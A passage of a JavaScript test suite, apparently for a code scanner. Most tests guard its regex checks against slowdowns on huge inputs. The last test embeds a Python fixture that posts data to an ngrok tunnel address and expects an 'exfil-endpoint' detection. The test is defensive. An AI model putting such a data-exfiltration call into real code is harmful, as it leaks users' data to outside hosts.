    expect(closesDocstring(`${'"""#'.repeat(100_000)}\u2028x`)).toBe(false);
    expect(closesDocstring(`${'"""#'.repeat(100_000)}\u2028"""  # done`)).toBe(true);
    expect(closesDocstring(`  text"""\u2028 `)).toBe(true);
    expect(closesDocstring(`"""x#""`)).toBe(false);
  });

  it('a string with a 200,000-letter word is judged prose or not in one pass', () => {
    // `[A-Za-z]{2,}[,.:;]?(?=\s)` retried at every letter of a word without a blank after it.
    expect(inProse(`${'A'.repeat(200_000)},`, 'x')).toBe(false);
    expect(inProse(`Send it to x when you are done: ${'A'.repeat(200_000)}`, 'x')).toBe(true);
  });
});

describe('hostile strings for the drop addresses', () => {
  it('a 200 KB string of `a-` is searched for drop hosts in one pass', async () => {
    // `\b[\w-]+\.host` was tried at each of its 100,000 word starts, reading to the end every time.
    const r = await scan(mod(lines('import requests', `x = '${'a-'.repeat(100_000)}'`, "requests.post('https://x-1.ngrok.io/c', data=x)")));
    expect(rulesOf(r)).toContain('exfil-endpoint');
  });
});
